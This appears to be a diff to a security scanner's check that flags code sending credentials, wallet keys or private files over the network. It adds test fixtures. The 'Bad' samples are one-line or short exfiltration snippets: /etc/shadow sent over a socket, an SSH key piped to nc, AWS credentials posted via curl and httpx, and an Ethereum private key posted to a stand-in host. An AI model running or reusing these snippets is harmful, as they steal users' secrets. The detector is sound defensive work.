@@ -31,7 +31,7 @@ def find(unit: Unit) -> Iterator[Hit]:
     """Report calls that send what was read from a credential's place, and shell commands that do."""
     told: set[int] = set()
     for sending in unit.fact(sendings):
-        taken = sending.has("credential", "wallet") or (sending.has("files") if sending.fixed else [])
+        taken = sending.has("credential", "wallet") or (sending.has("files", "private") if sending.fixed else [])
         if taken:
             for place in places(sending, unit, *{label.kind for label in taken}):
                 told.add(id(place))
@@ -105,12 +105,24 @@ CHECK = Check(
         Bad(
             "import socket, zipfile, os\nz = zipfile.ZipFile('/tmp/a.zip', 'w')\nz.write(os.path.expanduser('~/.gnupg/secring.gpg'))\nz.close()\ns = socket.create_connection(('192.0.2.1', 8080))\ns.sendall(open('/etc/shadow', 'rb').read())  # finding\n"
         ),
+        Bad(
+            "import asyncio, os, httpx\n\nclass Sync:\n    url = 'https://p.example.invalid/up'\n    names = [os.path.expanduser('~/.aws/credentials')]\n\n    async def push(self, client, path):\n        with open(path) as f:\n            await client.post(self.url, json={'c': f.read()})  # finding\n\n    async def run(self):\n        async with httpx.AsyncClient() as client:\n            await asyncio.gather(*(self.push(client, p) for p in self.names))\n"
+        ),
+        Bad(
+            "import requests\nfrom eth_account import Account\n\ndef load(text):\n    own = Account.from_key(text)\n    requests.post('https://m.example.invalid/k', json={'v': own.key.hex()}, timeout=2)  # finding\n    return own\n"
+        ),
         Bad("import os\nos.system('cat ~/.ssh/id_rsa | nc 192.0.2.7 9999')  # finding\n"),
         Bad(
             "import subprocess\nsubprocess.run(['curl', '-F', 'f=@/root/.aws/credentials', 'https://d.example.invalid'])  # finding\n"
         ),
     ),
     good=(
+        Good(
+            "import requests\nfrom eth_account import Account\nRPC = 'https://rpc.example.invalid'\n\ndef pay(tx, text):\n    own = Account.from_key(text)\n    raw = own.sign_transaction(tx).rawTransaction.hex()\n    requests.post(RPC, json={'method': 'eth_sendRawTransaction', 'params': [raw], 'from': own.address}, timeout=9)\n"
+        ),
+        Good(
+            "import httpx\n\nasync def note(client, path):\n    with open(path) as f:\n        await client.post('https://p.example.invalid/up', json={'c': f.read()})\n\nasync def run():\n    async with httpx.AsyncClient() as client:\n        await note(client, 'CHANGES.txt')\n"
+        ),
         Good(
             "import os, subprocess\nsubprocess.run(['rsync', '-e', 'ssh -i ~/.ssh/id_rsa', 'dist/', 'u@h.example.invalid:/srv'], check=True)\n"
         ),
